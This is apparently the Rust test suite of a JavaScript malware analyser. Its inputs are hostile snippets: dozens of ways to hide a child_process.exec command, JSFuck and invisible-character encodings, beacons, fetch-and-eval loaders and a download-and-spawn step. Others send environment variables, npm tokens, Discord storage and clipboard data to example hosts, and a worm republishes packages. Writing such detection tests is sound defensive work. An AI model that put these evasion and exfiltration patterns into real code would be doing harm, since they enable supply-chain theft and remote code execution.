//! JavaScript source to behaviours: what is folded, undone and followed.
#![allow(clippy::unwrap_used, reason = "a test may fail")]

use lazaret_code::{Catalogue, Limits, NoModules, Source, analyse, ir::Language};
use lazaret_content::Content;
use lazaret_model::{Action, Behaviour, Flow, ObjectKind, Phase};

fn behaviours_in(phase: Phase, text: &str) -> Vec<Behaviour> {
    let catalogue = Catalogue::load(&Content::shipped()).unwrap();
    let source = Source {
        path: "index.js",
        text: text.as_bytes(),
        language: Language::JavaScript,
        phase,
    };
    analyse(&source, &NoModules, &catalogue, &Limits::default()).behaviours
}

/// One line per behaviour: phase, action, object, target, then flows and
/// layers where there are any.
fn told(text: &str) -> String {
    behaviours_in(Phase::Install, text)
        .iter()
        .map(|b| {
            let mut line = format!("{:?} {:?} {:?} {}", b.phase, b.action, b.object, b.target);
            if !b.flows.is_empty() {
                line += &format!(" <- {:?}", b.flows);
            }
            if !b.layers.is_empty() {
                line += &format!(" through {}", b.layers.join(", "));
            }
            line + "\n"
        })
        .collect()
}

/// The commands that are started by `child_process.exec`.
fn commands(text: &str) -> Vec<String> {
    behaviours_in(Phase::Import, text)
        .into_iter()
        .filter(|b| b.api.starts_with("child_process.exec"))
        .map(|b| b.target)
        .collect()
}

#[test]
fn every_way_of_hiding_a_command_is_undone() {
    for text in [
        "require('child_process').exec('who' + 'ami')",
        "const {exec: e} = require('node:child_process'); e('whoami')",
        "import * as cp from 'child_process'; cp['ex' + 'ec']('whoami')",
        "import {execSync} from 'child_process'; execSync(`who${'ami'}`)",
        "global['req' + 'uire']('child' + '_process').exec('whoami')",
        "globalThis.process.mainModule.require('child_process').exec('whoami')",
        "module.constructor._load('child_process').exec('whoami')",
        "process.mainModule.constructor._load('child_process').exec('whoami')",
        "const r = require('module').createRequire(__filename); r('child_process').exec('whoami')",
        "eval(\"require('child_process').exec('whoami')\")",
        "new Function(\"require('child_process').exec('whoami')\")()",
        "[].constructor.constructor(\"require('child_process').exec('whoami')\")()",
        "(() => {}).constructor(\"require('child_process').exec('whoami')\")()",
        "setTimeout(\"require('child_process').exec('whoami')\", 10)",
        "require('vm').runInThisContext(\"require('child_process').exec('whoami')\")",
        "module._compile(\"require('child_process').exec('whoami')\", '')",
        "import('data:text/javascript,import(\"child_process\").then(c => c.exec(\"whoami\"))')",
        "import('child_process').then(({exec}) => exec('whoami'))",
        "(async () => { const c = await import('child_process'); c.exec('whoami') })()",
        "require('child_process').exec(Buffer.from('d2hvYW1p', 'base64').toString())",
        "require('child_process').exec(Buffer.from('77686f616d69', 'hex').toString('utf8'))",
        "require('child_process').exec(atob('d2hvYW1p'))",
        "require('child_process').exec('imaohw'.split('').reverse().join(''))",
        "require('child_process').exec(String.fromCharCode(119, 104, 111, 97, 109, 105))",
        "require('child_process').exec([119,104,111,97,109,105].map(c => String.fromCharCode(c)).join(''))",
        "require('child_process').exec('\\x77\\x68\\u006fami')",
        "require('child_process').exec(unescape('%77%68%6f%61mi'))",
        "require('child_process').exec(decodeURIComponent('%77hoami'))",
        "require('child_process').exec('wXhXoXaXmXi'.replace(/X/g, ''))",
        "require('child_process').exec('xhoami'.replace('x', 'w'))",
        "require('child_process').exec('vin`lh'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 1)).join(''))",
        "let s = ''; for (let i = 0; i < 6; i++) s += 'whoamixx'.charAt(i); require('child_process').exec(s)",
        "const b = Buffer.from('vinal`', 'latin1'); for (let i = 0; i < b.length; i++) b[i] ^= i % 2; require('child_process').exec('who' + 'ami')",
        "require('child_process').exec(require('zlib').inflateSync(Buffer.from('eJwrz8hPzM0EAAj6AoY=', 'base64')).toString())",
        "require('child_process').exec('whoami'.concat(''))",
        "require('child_process').exec(['who', 'ami'].reduce((a, b) => a + b, ''))",
        "require('child_process').exec(JSON.parse('{\"a\": \"whoami\"}').a)",
        "require('child_process').exec.call(null, 'whoami')",
        "require('child_process').exec.apply(null, ['whoami'])",
        "require('child_process').exec.bind(null, 'whoami')()",
        "Reflect.apply(require('child_process').exec, null, ['whoami'])",
        "const run = require('util').promisify(require('child_process').exec); run('whoami')",
        "class A { constructor(x) { this.x = x } go() { require('child_process').exec(this.x) } } new A('whoami').go()",
        "class A { x = 'whoami'; get y() { return this.x } } require('child_process').exec(new A().y)",
        "class B { constructor(x) { this.x = x } } class A extends B { constructor() { super('whoami') } } require('child_process').exec(new A().x)",
        "function A(x) { this.x = x } A.prototype.go = function () { return this.x }; require('child_process').exec(new A('whoami').go())",
        "const o = { get a() { return 'whoami' } }; require('child_process').exec(o.a)",
        "const [a, ...b] = ['x', 'who', 'ami']; require('child_process').exec(b.join(''))",
        "const {a: {b = 'whoami'}} = {a: {}}; require('child_process').exec(b)",
        "l: for (const a of ['x', 'whoami', 'y']) { if (a === 'x') continue l; require('child_process').exec(a); break l }",
        "switch (3) { case 1: x(); case 3: var c = 'who'; case 4: c += 'ami'; break; default: c = 'z' } require('child_process').exec(c)",
        "try { null.x.y; throw new Error('whoami') } catch (e) { require('child_process').exec(e.message) }",
        "new Promise((resolve) => resolve('whoami')).then(c => require('child_process').exec(c))",
        "process.nextTick(() => require('child_process').exec('whoami'))",
        "const f = (...a) => a.join(''); require('child_process').exec(f('who', 'ami'))",
        "const t = (s, v) => s[0] + v; require('child_process').exec(t`who${'ami'}`)",
        "require('child_process').exec(String.raw`whoami`)",
        "require('child_process').exec((1234).toString(36) && 'whoami')",
        "require('child_process').exec([..'imaohw'].reverse().join(''))"
            .replace("..'", "...'")
            .as_str(),
        "require('child_process').exec(new TextDecoder().decode(new Uint8Array([119,104,111,97,109,105])))",
        "var m = new Map([['a', 'whoami']]); require('child_process').exec(m.get('a'))",
        "Object.defineProperty(exports, 'q', { get: () => 'whoami' }); require('child_process').exec(exports.q)",
        "var x = x || 'whoami'; require('child_process').exec(x)",
        "require('child_process').exec(((a, b) => b)(0, 'whoami'))",
        "(0, require('child_process').exec)('whoami')",
        "[1].forEach(() => require('child_process').exec('whoami'))",
    ] {
        assert!(
            commands(text).iter().any(|c| c == "whoami"),
            "{text}: {:?}",
            commands(text)
        );
    }
}

#[test]
fn expressions_of_six_characters_fold() {
    // "fill", "constructor" and a call of what they make, as JSFuck writes it.
    let letter = |word: &str, at: &str| format!("({word}+[])[{at}]");
    let n = |n: usize| {
        if n == 0 {
            "+[]".to_owned()
        } else {
            vec!["!![]"; n].join("+").replacen("!![]", "+!![]", 1)
        }
    };
    let fals = "![]";
    let f = letter(fals, &n(0));
    let l = letter(fals, &n(2));
    let i = format!("([![]]+[][[]])[+!![]+[{}]]", "+[]");
    let fill = format!("[][{f}+{i}+{l}+{l}]");
    let constructor = "'constructor'";
    let text = format!("{fill}[{constructor}](\"require('child_process').exec('whoami')\")()");
    assert_eq!(commands(&text), ["whoami"], "{text}");
}

fn found(text: &str, action: Action, object: ObjectKind) -> Vec<Behaviour> {
    behaviours_in(Phase::Install, text)
        .into_iter()
        .filter(|b| b.action == action && b.object == object)
        .collect()
}

#[test]
fn a_beacon_carries_the_host() {
    let text = r#"
const os = require("os"), dns = require("dns"), https = require("https");
const data = JSON.stringify({ p: __dirname, hn: os.hostname(), u: os.userInfo().username, d: dns.getServers() });
const options = { hostname: "beacon.example.com", port: 443, path: "/", method: "POST" };
const req = https.request(options, (res) => { res.on("data", (d) => {}) });
req.write(data); req.end();
dns.lookup(os.hostname() + ".probe.example.com", () => {});
"#;
    let connects = found(text, Action::Connect, ObjectKind::Network);
    assert!(
        connects
            .iter()
            .any(|b| b.target.contains("beacon.example.com") && b.flows.contains(&Flow::Host)),
        "{}",
        told(text)
    );
    let resolves = found(text, Action::Resolve, ObjectKind::Dns);
    assert!(
        resolves
            .iter()
            .any(|b| b.target.ends_with(".probe.example.com") && b.flows.contains(&Flow::Host)),
        "{}",
        told(text)
    );
}

#[test]
fn answers_that_are_run_are_from_the_network() {
    for text in [
        "require('https').get('https://c2.example.com/x', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })",
        "fetch('https://c2.example.com/x').then(r => r.text()).then(t => eval(t))",
        "fetch('https://c2.example.com/x').then(r => r.text()).then(eval)",
        "(async () => { const r = await fetch('https://c2.example.com/x'); const t = await r.text(); new Function(atob(t))() })()",
        "require('axios').get('https://c2.example.com/x').then(({data}) => eval(data.cookie))",
        "const axios = require('axios'); (async () => { try { const r = await axios.get('https://c2.example.com/x'); new Function('require', r.data)(require) } catch (e) {} })()",
        "const vm = require('vm'); require('request')('https://c2.example.com', (e, r, body) => vm.runInThisContext(body))",
    ] {
        let run = found(text, Action::Evaluate, ObjectKind::Code);
        assert!(
            run.iter().any(|b| b.flows.contains(&Flow::Network)),
            "{text}\n{}",
            told(text)
        );
    }
}

#[test]
fn what_was_downloaded_is_started() {
    let text = r#"
const https = require('https'), fs = require('fs'), path = require('path'), os = require('os'), cp = require('child_process');
const out = path.join(os.tmpdir(), 'updater');
https.get('https://cdn.example.com/updater', (res) => {
  const file = fs.createWriteStream(out);
  res.pipe(file);
  file.on('finish', () => { fs.chmodSync(out, 0o755); cp.spawn(out, ['--quiet'], { detached: true, stdio: 'ignore' }).unref() });
});
"#;
    let spawned = found(text, Action::Spawn, ObjectKind::Process);
    let b = spawned
        .iter()
        .find(|b| b.target == "/tmp/updater --quiet")
        .unwrap_or_else(|| panic!("{}", told(text)));
    assert!(b.flows.contains(&Flow::Network), "{}", told(text));
    assert!(
        b.tags.contains("detached") && b.tags.contains("silent"),
        "{:?}",
        b.tags
    );
    assert_eq!(b.phase, Phase::Install);
}

#[test]
fn secrets_are_followed_to_where_they_go() {
    for (text, target, flow) in [
        (
            "const e = process.env; require('axios').post('https://x.example.com/c', { env: JSON.stringify(e) })",
            "https://x.example.com/c",
            Flow::EnvironmentAll,
        ),
        (
            "fetch('https://x.example.com/?t=' + process.env.NPM_TOKEN)",
            "https://x.example.com/?t={env:NPM_TOKEN}",
            Flow::Credential,
        ),
        (
            "const fs = require('fs'), os = require('os'); const t = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); fetch('https://x.example.com', { method: 'POST', body: t })",
            "https://x.example.com",
            Flow::Credential,
        ),
        (
            "const {Webhook} = require('discord-webhook-node'); const p = require('path'); const f = require('fs').readFileSync(p.join(process.env.APPDATA, 'discord/Local Storage/leveldb', 'x.ldb')).toString(); require('node-fetch')('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content: f }) })",
            "https://discord.com/api/webhooks/1/x",
            Flow::Chat,
        ),
        (
            "require('clipboardy').read().then(c => fetch('https://x.example.com/' + c))",
            "https://x.example.com/{clipboard}",
            Flow::Clipboard,
        ),
        (
            "const {exec} = require('child_process'); exec('cat x', (e, out) => require('http').get('http://x.example.com/?' + out))",
            "http://x.example.com/?{output}",
            Flow::Process,
        ),
    ] {
        let sent = found(text, Action::Connect, ObjectKind::Network);
        assert!(
            sent.iter()
                .any(|b| b.target == target && b.flows.contains(&flow)),
            "{text}\n{}",
            told(text)
        );
    }
}

#[test]
fn a_worm_is_seen_whole() {
    let text = r#"
const fs = require('fs'), cp = require('child_process'), path = require('path');
const token = (fs.readFileSync(path.join(require('os').homedir(), '.npmrc'), 'utf8').match(/_authToken=(.+)/) || [])[1];
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/shai.yml', 'on: push');
cp.execSync('npm publish --access public', { env: { NPM_TOKEN: token } });
cp.execSync(`git remote add o https://example.com/x.git && git push o`);
"#;
    insta::assert_snapshot!(told(text));
}

#[test]
fn invisible_characters_are_decoded() {
    let code = "require('child_process').exec('whoami')";
    let hidden: String = code
        .bytes()
        .map(|b| {
            char::from_u32(if b < 16 {
                0xfe00 + u32::from(b)
            } else {
                0xe0100 + u32::from(b) - 16
            })
            .unwrap()
        })
        .collect();
    let text = format!(
        "const s = v => [...v].map(w => (w = w.codePointAt(0), w >= 0xFE00 && w <= 0xFE0F ? w - 0xFE00 : w >= 0xE0100 && w <= 0xE01EF ? w - 0xE0100 + 16 : null)).filter(n => n !== null);
eval(Buffer.from(s(`{hidden}`)).toString('utf-8'));"
    );
    assert_eq!(commands(&text), ["whoami"]);
}

#[test]
fn functions_that_nobody_calls_run_later() {
    let text = "module.exports = function (cmd) { require('child_process').exec('git ' + cmd) }; module.exports.other = () => fetch('https://example.com')";
    let all = behaviours_in(Phase::Import, text);
    assert!(all.iter().all(|b| b.phase == Phase::Run), "{all:?}");
    assert!(
        all.iter()
            .any(|b| b.target == "git {arg:cmd}" && b.flows.contains(&Flow::Argument)),
        "{all:?}"
    );
}

/// Output of `javascript-obfuscator` on `plain.js`, at several
/// settings: all of what the plain text does is seen.
#[test]
fn obfuscated_code_does_what_the_plain_code_does() {
    let acts = |name: &str| -> Vec<(Action, ObjectKind, String)> {
        let path = format!(
            "{}/tests/data/obfuscated/{name}.js",
            env!("CARGO_MANIFEST_DIR")
        );
        behaviours_in(Phase::Import, &std::fs::read_to_string(path).unwrap())
            .into_iter()
            .map(|b| (b.action, b.object, b.target))
            .collect()
    };
    let plain = acts("plain");
    assert!(plain.len() >= 8, "{plain:?}");
    for name in [
        "default", "low", "medium", "base64", "rc4", "flat", "selfdef", "numbers", "high",
    ] {
        let seen = acts(name);
        for act in &plain {
            assert!(seen.contains(act), "{name} lacks {act:?}: {seen:?}");
        }
    }
}

/// Output of `jsfuck` on the code of the test before last.
#[test]
fn six_characters_are_read() {
    let path = format!(
        "{}/tests/data/obfuscated/jsfuck.js",
        env!("CARGO_MANIFEST_DIR")
    );
    assert_eq!(
        commands(&std::fs::read_to_string(path).unwrap()),
        ["whoami"]
    );
}
